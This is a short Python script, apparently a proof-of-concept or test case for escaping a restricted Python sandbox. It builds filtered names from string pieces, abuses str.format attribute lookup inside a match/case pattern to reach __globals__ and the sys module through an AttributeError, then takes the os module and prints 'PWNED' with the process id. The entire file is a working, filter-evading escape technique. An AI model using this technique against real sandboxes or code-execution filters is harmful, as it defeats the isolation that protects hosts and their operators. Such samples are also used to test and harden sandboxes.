import typing
# A computed str's bound format method through a class pattern keyword on the built-in str.
fmt = "{0.__glo" + "bals__[s" + "ys].zz_not_there}"
got = None
match fmt:
    case str(format=fm):
        try:
            fm(typing.cast)
        except AttributeError as e:
            got = e.obj
o = got.modules["o" + "s"]
print("PW" + "NED", o.getpid())
